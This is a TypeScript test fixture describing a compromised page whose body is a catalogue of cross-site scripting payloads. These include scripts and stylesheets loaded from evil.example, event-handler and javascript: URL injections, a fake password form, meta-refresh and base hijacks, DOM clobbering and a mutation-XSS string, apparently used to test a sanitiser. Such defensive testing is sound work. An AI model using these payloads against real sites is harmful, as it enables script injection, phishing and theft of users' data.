import type { SitePage } from "../site-page.ts";

const run = "alert('content')";

/** The content of a compromised page: nothing in it may run, make requests, or clobber names. */
export const hostilePage: SitePage = {
  path: "pages/hostile",
  title: "A page that was broken into",
  description: "Scripts, forms, frames and worse, which this portal does not show.",
  body: `<p>Only words are left of what follows.</p>
<script>${run}</script><script src="https://evil.example/x.js"></script>
<img src="x" onerror="${run}"><img src="https://evil.example/pixel.gif" alt="A picture from elsewhere">
<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text>drawn</text></a></svg>
<form action="https://evil.example/" id="document" name="body"><input name="attributes">
<input type="password" name="cookie"><button formaction="javascript:${run}">Sign in again</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/y) }</style>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
<a href="javascript:${run}" onclick="${run}">a script</a> <a href="data:text/html,<script>${run}</script>">a page</a>
<a href="/pages/partner-services" id="location" name="location" ping="https://evil.example/">Partner Services</a>
<a data-toggle="collapse" href="javascript:${run}#x">Open</a><div id="x" onclick="${run}" class="collapse">a part</div>
<div data-max-chars="5" data-more-label="<img src=x onerror=${run}>">a text that is cut, and more of it</div>
<span data-toggle="tooltip" title="<img src=x onerror=${run}>">words with a tooltip</span>
<p>The last words.</p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></math>`,
};
